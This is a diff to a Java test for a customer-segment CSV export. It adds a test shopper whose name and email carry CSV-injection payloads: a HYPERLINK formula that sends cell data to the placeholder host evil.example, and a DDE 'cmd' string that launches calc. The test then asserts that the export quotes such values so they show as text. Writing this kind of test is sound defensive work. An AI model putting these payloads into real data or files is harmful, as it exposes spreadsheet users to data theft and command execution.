@@ -29,6 +29,7 @@ class SegmentsTest extends ServiceHubTest {
     private static String atRiskOptedOut;
     private static String goldNew;
     private static String leadAtRisk;
+    private static String formulas;
 
     @BeforeEach
     void customers() {
@@ -41,6 +42,11 @@ class SegmentsTest extends ServiceHubTest {
         atRiskOptedOut = placed(new Shopper(false), GOLD, 120, "GOLD");
         goldNew = placed(new Shopper(true), GOLD, 0, "GOLD");
         leadAtRisk = placed(new Shopper(true), LEAD, 120, "LEAD");
+        // what a spreadsheet would run if the export passed it on as written (OWASP CSV injection)
+        Shopper attacker = new Shopper(true);
+        attacker.firstName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+        attacker.email = "-2+3+cmd|'/c-calc'!a0-" + attacker.customerId.toLowerCase() + "@example.com";
+        formulas = placed(attacker, GOLD, 120, "GOLD");
     }
 
     @Test
@@ -95,6 +101,12 @@ class SegmentsTest extends ServiceHubTest {
         assertThat(mine.get(3)).isEqualTo("Ann, \"the\" buyer");
         assertThat(response.body()).contains(",\"Ann, \"\"the\"\" buyer\",");
         assertThat(mine.subList(6, 10)).containsExactly("GOLD", "AT_RISK", "2930.0000", "1");
+        // a value a spreadsheet would read as a formula starts with a quote, so it is shown as text, not run
+        List<String> attacker = byId.get(formulas);
+        assertThat(attacker.get(3)).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+        assertThat(attacker.get(1)).startsWith("'-2+3+cmd|'/c-calc'!a0-");
+        assertThat(rows.subList(1, rows.size())).allSatisfy(row -> assertThat(row).noneMatch(f -> f.matches("(?s)[=+\\-@\t\r].*")
+                && !f.matches("[+-]?[0-9.]+")));
         // every row is an opted-in member of the segment
         assertThat(byId.keySet()).allSatisfy(id -> assertThat(jdbc.queryForObject(
                 "select marketing_opt_in from customer where id = ?", Boolean.class, id)).isTrue());
